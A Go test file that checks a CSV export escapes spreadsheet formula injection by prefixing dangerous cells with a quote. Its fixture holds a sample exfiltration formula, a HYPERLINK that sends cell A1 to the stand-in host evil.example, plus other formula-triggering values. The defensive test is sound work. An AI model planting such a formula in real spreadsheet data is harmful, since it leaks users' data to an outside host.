package browse

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"testing"

	"github.com/ledgerline/ledgerline/internal/warehouse"
)

// Issue 12: a customer's name or description that is a spreadsheet
// formula was exported as is, and ran when the file was opened.
func TestExportNeutralizesFormulas(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	wh, err := warehouse.New(warehouse.Options{DB: e.db})
	if err != nil {
		t.Fatal(err)
	}
	const evilName = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	ty, _ := warehouse.TypeByName("customers")
	raw, _ := json.Marshal(map[string]any{"id": "cus_evil", "object": "customer", "created": t0 + 60, "livemode": false,
		"name": evilName, "description": "@SUM(1+1)", "email": "-2+3@example.com", "balance": -500, "currency": "usd"})
	row, err := warehouse.Prepare(ty, raw, 1, false)
	if err != nil {
		t.Fatal(err)
	}
	if err := wh.Apply(ctx, e.conn, ty, []warehouse.Row{row}, nil); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if _, err := e.b.Export(ctx, Query{ConnID: e.conn, View: "customers", Search: "cus_evil"}, &buf); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("%d records, %v", len(recs), err)
	}
	cells := map[string]string{}
	for i, h := range recs[0] {
		cells[h] = recs[1][i]
	}
	for col, want := range map[string]string{"name": "'" + evilName, "description": "'@SUM(1+1)", "email": "'-2+3@example.com", "balance": "-5.00"} {
		if got, ok := cells[col]; ok && got != want {
			t.Errorf("%s = %q, want %q", col, got, want)
		} else if !ok && col == "name" {
			t.Fatalf("no name column in %v", recs[0])
		}
	}
}
